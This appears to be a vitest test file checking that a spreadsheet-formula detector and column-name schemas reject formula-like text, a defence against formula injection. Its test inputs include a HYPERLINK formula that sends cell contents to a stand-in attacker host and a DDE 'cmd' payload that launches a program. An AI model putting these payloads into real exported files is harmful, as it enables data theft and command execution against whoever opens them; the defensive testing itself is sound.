import { describe, expect, it } from "vitest";
import { isFormula } from "./cellText.js";
import { featureSchema, labelSchema } from "./features.js";

const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  "=1",
  "@SUM(A1:A9)",
  "+A1",
  "+1+1",
  "-1-1",
  "-cmd|' /C calc'!A0",
  "-inf",
  "--A1",
  "+(1)",
  " =1",
  "\u00a0=1",
  "\uff1d1",
  "\uff0bA1",
  "a;=1",
  "a; @b",
  ";-x",
];

const plain = [
  "-",
  "+",
  "++",
  "+++",
  "+/-",
  "?",
  "-9",
  "+1",
  "-0.5",
  "-0,5",
  "+.5",
  "-1e-6",
  "-50000",
  "-5 %",
  "50000+",
  "<=50K",
  ">50K",
  "a=b",
  "x@y.example",
  "(-1.5, -0.5]",
  "[-inf,-1)",
  "2-3",
  "a; b",
  "a;-1",
  "'=1",
  "Zürich",
  "\u2212x",
];

describe("a text", () => {
  it.each(formulas)("that a spreadsheet would compute: %j", (text) => {
    expect(isFormula(text)).toBe(true);
  });

  it.each(plain)("that it shows as it is: %j", (text) => {
    expect(isFormula(text)).toBe(false);
  });
});

const numeric = (name: string) => ({ name, type: "numeric", min: 0, max: 1 });
const categorical = (level: string) => ({ name: "a", type: "categorical", levels: [level, "other"] });
const label = (level: string, name = "a") => ({ name, levels: [level, "other"] });

describe("a study's columns and levels", () => {
  it.each(plain)("may be called %j", (text) => {
    expect(featureSchema.safeParse(numeric(text)).success).toBe(true);
    expect(featureSchema.safeParse(categorical(text)).success).toBe(true);
    expect(labelSchema.safeParse(label(text, text)).success).toBe(true);
  });

  it.each([...formulas, "\t=1", "a\u0000", "a\nb", "a\u0085", "\ud800"])("may not be called %j", (text) => {
    for (const [schema, raw] of [
      [featureSchema, numeric(text)],
      [featureSchema, categorical(text)],
      [labelSchema, label(text)],
      [labelSchema, label("x", text)],
    ] as const) {
      expect(schema.safeParse(raw).success, JSON.stringify(raw)).toBe(false);
    }
  });
});

it.each(["unit", "description"])("text that no store can keep is no %s", (key) => {
  expect(featureSchema.safeParse({ ...numeric("a"), [key]: "mg\n= 1" }).success).toBe(true);
  expect(featureSchema.safeParse({ ...numeric("a"), [key]: "mg\0" }).success).toBe(false);
});
